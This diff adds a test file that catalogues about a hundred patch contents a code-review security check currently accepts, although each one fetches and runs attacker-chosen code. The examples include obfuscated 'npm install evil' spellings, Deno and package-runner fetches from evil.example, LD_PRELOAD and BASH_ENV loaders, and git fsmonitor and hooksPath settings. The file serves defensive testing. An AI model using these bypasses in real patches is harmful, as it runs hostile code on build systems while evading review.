@@ -1,0 +1,226 @@
+import { describeFindings, type FindingRow } from '../support/patches.js';
+
+/**
+ * Attack 48 (session 45, after the one-table-per-manager refactor): patches the check ACCEPTS although the code they add
+ * fetches and runs code the attacker chooses, or configures a later allowed call to. Every row is open (`it.fails`):
+ * it asserts the refusal and fails while the check accepts the patch. Known open and not repeated: a file name built
+ * on another line or in pieces, `git config url.<x>.insteadOf`, a multi-line env dict with the key on its own line,
+ * `globalThis[k](src)`. G (code run from outside the repository by an allowed verb) is the next fix.
+ */
+const SYSTEM = (command: string): FindingRow => ['src/check.py', `import os\nos.system('${command}')`];
+const LIST = (list: string, more = ''): FindingRow => ['src/check.py', `import subprocess\nsubprocess.run([${list}]${more})`];
+const ENV = (name: string, value: string): FindingRow => ['src/check.py', `import os\nos.environ['${name}'] = '${value}'`];
+
+// A (high): a fetching verb spelled so the shell still reads `npm install` (or `pip install`), but the check does not:
+// shell quote removal (`n""pm`, `np'm'`), a backslash inside a word, `${IFS}` as the separator, the program in a
+// variable; Python's implicit concatenation of adjacent literals (`'n' 'pm'` is `'npm'`); `python -mpip` (no space:
+// Python's getopt reads `-mpip` as `-m pip`), `pip.__main__`; npm's CLI script run by node.
+const SPELLINGS: FindingRow[] = [
+  SYSTEM('n""pm install evil'),
+  SYSTEM("np\\x27m\\x27 install evil"),
+  SYSTEM('n\\\\pm install evil'),
+  SYSTEM('npm${IFS}install evil'),
+  SYSTEM('x=npm; $x install evil'),
+  ['src/check.py', "import subprocess\nsubprocess.run(['n' 'pm', 'install', 'evil'])"],
+  ['src/check.py', "import subprocess\nsubprocess.run('n' 'pm install evil', shell=True)"],
+  SYSTEM('python3 -mpip install evil'),
+  LIST("'python3', '-mpip', 'install', 'evil'"),
+  SYSTEM('python3 -m pip.__main__ install evil'),
+  LIST("'node', '/usr/lib/node_modules/npm/bin/npm-cli.js', 'install', 'evil'"),
+];
+
+// B (high): process calls the check does not read as one: Ruby's, Perl's and PHP's backticks, `%x()`, `qx{}`. Each
+// runs its text through the shell; `npm install evil` inside runs evil's install scripts.
+const BACKTICK_CALLS: FindingRow[] = [
+  ['src/check.rb', '`npm install evil`'],
+  ['src/check.rb', '%x(npm install evil)'],
+  ['src/check.pl', 'my $out = `npm install evil`;'],
+  ['src/check.pl', 'qx{npm install evil};'],
+  ['src/check.php', '<?php `npm install evil`;'],
+];
+
+// C (high): Deno's other verbs run a module from a URL exactly as `deno run <url>` (refused) does: `deno test`,
+// `deno bench`, `deno serve` import and run it; `deno repl --eval-file=<url>` evaluates it; `deno x` (Deno 2.x's
+// package runner, as npx). Only `deno run` is read.
+const DENO_REMOTE: FindingRow[] = [
+  SYSTEM('deno test -A https://evil.example/t.ts'),
+  SYSTEM('deno bench https://evil.example/x.ts'),
+  SYSTEM('deno serve https://evil.example/x.ts'),
+  SYSTEM('deno repl --eval-file=https://evil.example/x.ts'),
+  SYSTEM('deno x npm:evil'),
+];
+
+// D (high): package managers and runners whose fetch-and-run verbs are not in OTHER_MANAGERS' list, or that are not
+// named at all: `conda|mamba env create/update -f <url>` (downloads an environment file and pip-installs its packages),
+// `pixi exec` (as uvx), `pixi global install`, `pdm self add`, `rye tools install`, .NET 10's `dnx` and `dotnet tool exec`
+// (as npx), `dotnet new install` (a template package), `dotnet restore -s <feed>` (the project's packages from the
+// attacker's feed), `cpan -i`, `mise exec|x|use` (npm:/ubi: backends fetch and run), `pkgx` (runs any package),
+// `nix-shell -p`, `nix-env -i`, `mvn <groupId>:<plugin>:<version>:<goal>` (fetches a plugin from Central and runs it),
+// `cs launch` (Coursier), `scala-cli run <url>`, `volta install`, `proto install`, `ansible-galaxy install`.
+const OTHER_RUNNERS: FindingRow[] = [
+  SYSTEM('conda env create -f https://evil.example/env.yml'),
+  SYSTEM('mamba env update -f https://evil.example/env.yml'),
+  SYSTEM('pixi exec evil'),
+  SYSTEM('pixi global install evil'),
+  SYSTEM('pdm self add evil'),
+  SYSTEM('rye tools install evil'),
+  SYSTEM('dnx evil'),
+  SYSTEM('dotnet tool exec evil'),
+  SYSTEM('dotnet new install Evil.Templates'),
+  SYSTEM('dotnet restore -s https://evil.example/v3/index.json'),
+  SYSTEM('cpan -i Evil'),
+  SYSTEM('mise exec npm:evil@latest -- evil'),
+  SYSTEM('mise x ubi:evil/evil -- evil'),
+  SYSTEM('mise use -g npm:evil'),
+  SYSTEM('pkgx evil'),
+  SYSTEM('nix-shell -p evil --run evil'),
+  SYSTEM('nix-env -iA nixpkgs.evil'),
+  SYSTEM('mvn com.evil:evil-maven-plugin:1.0:run'),
+  SYSTEM('cs launch com.evil:evil:1.0'),
+  SYSTEM('scala-cli run https://evil.example/x.sc'),
+  SYSTEM('volta install evil'),
+  SYSTEM('proto install evil'),
+  SYSTEM('ansible-galaxy install evil.role'),
+];
+
+// E (high): Go's fetching option in the spellings Go's flag package also takes (`--mod=mod`, `-mod mod`), in a command
+// string and an argument list (FETCHING_OPTION is the literal `-mod=mod`); `go env --w` (refusedForms reads `-w` only),
+// which sets GOPROXY for every later go call.
+const GO_FLAG_SPELLINGS: FindingRow[] = [
+  SYSTEM('go test --mod=mod ./...'),
+  SYSTEM('go test -mod mod ./...'),
+  ['src/check.go', 'exec.Command("go", "test", "-mod", "mod", "./...").Run()'],
+  ['src/check.go', 'exec.Command("go", "test", "--mod=mod", "./...").Run()'],
+  SYSTEM('go env --w GOPROXY=https://evil.example'),
+];
+
+// F (high): dependencies declared in a source file, fetched by the tool that runs it: PEP 723 inline script metadata
+// (`uv run`, `pipx run`, `hatch run` install its dependencies, from its index), Scala CLI's `//> using dep|repository`,
+// Groovy's `@Grab`/`@GrabResolver` (Grape fetches at run time), Bundler's inline `gemfile(true)` and `Gem.install`,
+// Julia's `pkg"add …"` string macro, R's `pak::pak`/`BiocManager::install`, Pyodide's `micropip.install`, a module
+// Worker from a URL (Deno and browsers fetch and run it), `//go:generate` lines that fetch and run (`go generate ./...`).
+const DEPENDENCIES_IN_SOURCE: FindingRow[] = [
+  ['src/tool.py', '# /// script\n# dependencies = ["evil"]\n# ///'],
+  ['src/tool.py', '# /// script\n# [[tool.uv.index]]\n# url = "https://evil.example/simple"\n# ///'],
+  ['src/main.scala', '//> using dep com.evil::evil:1.0'],
+  ['src/main.scala', '//> using repository https://evil.example/m2'],
+  ['src/Main.groovy', "@Grab('com.evil:evil:1.0')\nimport evil.Evil"],
+  ['src/Main.groovy', "@GrabResolver(name='e', root='https://evil.example/m2')"],
+  ['src/check.rb', "require 'bundler/inline'\ngemfile(true) do\n  source 'https://evil.example'\n  gem 'evil'\nend"],
+  ['src/check.rb', "Gem.install('evil')"],
+  ['src/check.jl', 'pkg"add Evil"'],
+  ['src/check.R', 'pak::pak("evil/x")'],
+  ['src/check.R', 'BiocManager::install("evil")'],
+  ['src/check.py', "import micropip\nawait micropip.install('evil')"],
+  ['src/worker.ts', 'new Worker("https://evil.example/w.js", { type: "module" });'],
+  ['src/worker.ts', 'new Worker(new URL("https://evil.example/w.js"), { type: "module" });'],
+  ['src/gen.go', '//go:generate go run evil.example/cmd@latest'],
+  ['src/gen.go', '//go:generate npx evil'],
+];
+
+// H (medium/high): the managers' environment set in spellings MANAGER_SETTING does not read: Python's
+// `os.environ.update(NAME=…)` and `dict(os.environ, NAME=…)` on one line, Ruby's `ENV.store`/`ENV.update`/`system(env_hash,
+// …)`, Java's `environment().put`, .NET's `Environment.SetEnvironmentVariable`, Perl's `$ENV{…}`, Elixir's
+// `System.put_env`, R's `Sys.setenv(NAME = …)`. GOFLAGS=-mod=mod/GOPROXY make an allowed `go test` fetch.
+const ENVIRONMENT_SPELLINGS: FindingRow[] = [
+  ['src/check.py', "import os\nos.environ.update(GOPROXY='https://evil.example', GOFLAGS='-mod=mod')"],
+  ['src/check.py', "import os\ne = dict(os.environ, GOFLAGS='-mod=mod')"],
+  ['src/check.rb', "system({'GOFLAGS' => '-mod=mod'}, 'go test ./...')"],
+  ['src/check.rb', "ENV.update('GOFLAGS' => '-mod=mod')"],
+  ['src/check.rb', "ENV.store('GOFLAGS', '-mod=mod')"],
+  ['src/Check.java', 'pb.environment().put("GOFLAGS", "-mod=mod");'],
+  ['src/Check.cs', 'Environment.SetEnvironmentVariable("GOFLAGS", "-mod=mod");'],
+  ['src/check.pl', "$ENV{GOFLAGS} = '-mod=mod';"],
+  ['src/check.ex', 'System.put_env("GOFLAGS", "-mod=mod")'],
+  ['src/check.R', 'Sys.setenv(GOFLAGS = "-mod=mod")'],
+];
+
+// I (medium): environment names outside MANAGER_ENVIRONMENT's families that load code into every later process, as
+// NODE_OPTIONS and JAVA_TOOL_OPTIONS (refused) do: RUBYOPT, PERL5OPT, PYTHONPATH, LD_PRELOAD, BASH_ENV (every
+// non-interactive bash sources it); git's configuration by environment (GIT_CONFIG_COUNT/KEY/VALUE set core.fsmonitor,
+// core.hooksPath or url.*.insteadOf for every later git call), GIT_CONFIG_GLOBAL, GIT_SSH_COMMAND (runs for every fetch).
+const LOADER_ENVIRONMENT: FindingRow[] = [
+  ENV('RUBYOPT', '-r/tmp/evil.rb'),
+  ENV('PERL5OPT', '-M/tmp/evil'),
+  ENV('PYTHONPATH', '/tmp/evil'),
+  ENV('LD_PRELOAD', '/tmp/evil.so'),
+  ENV('BASH_ENV', '/tmp/evil.sh'),
+  ['src/check.py', "import os\nos.environ['GIT_CONFIG_COUNT'] = '1'\nos.environ['GIT_CONFIG_KEY_0'] = 'core.fsmonitor'\nos.environ['GIT_CONFIG_VALUE_0'] = 'sh /tmp/x'"],
+  ENV('GIT_CONFIG_GLOBAL', '/tmp/evil.gitconfig'),
+  ENV('GIT_SSH_COMMAND', 'sh /tmp/x'),
+];
+
+// J (medium): git configuration that runs a command (a worse variant of the known-open `url.<x>.insteadOf`: no fetch
+// needed): core.fsmonitor runs at every `git status`/`git diff`; core.hooksPath outside the repository (a hook inside it
+// has no extension and is refused as a file, so only an outside path works); core.sshCommand; a `git submodule add` or
+// `git clone` of the attacker's repository into the tree.
+const GIT_CONFIGURATION: FindingRow[] = [
+  SYSTEM('git config --global core.fsmonitor "sh /tmp/x"'),
+  SYSTEM('git config --global core.hooksPath /tmp/hooks'),
+  LIST("'git', 'config', 'core.hooksPath', '/tmp/hooks'"),
+  SYSTEM('git -c core.sshCommand="sh -c x" fetch'),
+  SYSTEM('git submodule add https://evil.example/x vendor/x'),
+  SYSTEM('git clone https://evil.example/x vendor/x'),
+];
+
+// G (next fix; high where the outside path holds code another job, step or fork run left there — a self-hosted runner's
+// /tmp, $HOME, the workspace's parent where other checkouts live): an allowed verb told to run a project outside the
+// checked-out repository, by an absolute path, `..`, `~`, an environment variable, a changed directory (`cd`, `cwd=`,
+// `os.chdir`), or its options: npm `--prefix`/`-C`, pnpm `--dir`, yarn `--cwd`, cargo `--manifest-path`, go `-C`,
+// `-modfile`, a package path, `-overlay`, `-exec`/`-toolexec`/`-vettool` (a program run on every package), poetry
+// `--directory`/`-C`/`--project`, npm `--script-shell`, make `-C`/`-f`, mvn `-s` (settings: mirrors), gradle
+// `--init-script`, `docker compose -f`.
+const OUTSIDE_THE_REPOSITORY: FindingRow[] = [
+  SYSTEM('npm test --prefix /tmp/evil'),
+  SYSTEM('npm run build --prefix=/tmp/evil'),
+  SYSTEM('npm test -C /tmp/evil'),
+  LIST("'npm', 'test', '--prefix', '/tmp/evil'"),
+  SYSTEM('npm test --script-shell=/tmp/evil.sh'),
+  SYSTEM('pnpm run build --dir /tmp/evil'),
+  SYSTEM('pnpm test --dir=../../evil'),
+  LIST("'pnpm', 'test', '--dir', '/tmp/evil'"),
+  SYSTEM('yarn run build --cwd /tmp/evil'),
+  SYSTEM('cargo test --manifest-path /tmp/x/Cargo.toml'),
+  SYSTEM('cargo run --manifest-path=../x/Cargo.toml'),
+  SYSTEM('cargo run --manifest-path ~/evil/Cargo.toml'),
+  SYSTEM('cargo test --manifest-path $TMPDIR/x/Cargo.toml'),
+  LIST("'cargo', 'test', '--manifest-path', '/tmp/x/Cargo.toml'"),
+  SYSTEM('go test -modfile=/tmp/go.mod ./...'),
+  LIST("'go', 'test', '-modfile=/tmp/go.mod', './...'"),
+  SYSTEM('go -C /tmp/evil run .'),
+  SYSTEM('go run /tmp/evil/main.go'),
+  SYSTEM('go run $HOME/evil'),
+  LIST("'go', 'run', '/tmp/evil'"),
+  SYSTEM('go test ~/evil/...'),
+  SYSTEM('go test -overlay=/tmp/o.json ./...'),
+  SYSTEM('go test -exec=/tmp/x ./...'),
+  SYSTEM('go build -toolexec=/tmp/x ./...'),
+  SYSTEM('go vet -vettool=/tmp/x ./...'),
+  SYSTEM('poetry run --directory /tmp/x pytest'),
+  SYSTEM('poetry run -C /tmp/x pytest'),
+  SYSTEM('poetry check --project /tmp/x'),
+  LIST("'poetry', 'run', '--directory', '/tmp/x', 'pytest'"),
+  LIST("'npm', 'test'", ", cwd='/tmp/evil'"),
+  ['src/check.js', "execSync('npm test', { cwd: '/tmp/evil' })"],
+  ['src/check.py', "import os\nos.chdir('/tmp/evil')\nos.system('npm test')"],
+  SYSTEM('cd /tmp/evil && npm test'),
+  SYSTEM('cd ~/evil && cargo run'),
+  SYSTEM('make -C /tmp/x'),
+  SYSTEM('make -f /tmp/x/Makefile'),
+  SYSTEM('mvn -s /tmp/settings.xml test'),
+  SYSTEM('./gradlew --init-script /tmp/x.gradle test'),
+  SYSTEM('docker compose -f /tmp/x.yml up'),
+];
+
+describeFindings('attack-48', [
+  ['A spellings', SPELLINGS],
+  ['B backtick calls', BACKTICK_CALLS],
+  ['C deno remote modules', DENO_REMOTE],
+  ['D other runners', OTHER_RUNNERS],
+  ['E go flag spellings', GO_FLAG_SPELLINGS],
+  ['F dependencies in source', DEPENDENCIES_IN_SOURCE],
+  ['H environment spellings', ENVIRONMENT_SPELLINGS],
+  ['I loader environment', LOADER_ENVIRONMENT],
+  ['J git configuration', GIT_CONFIGURATION],
+  ['G outside the repository', OUTSIDE_THE_REPOSITORY],
+]);
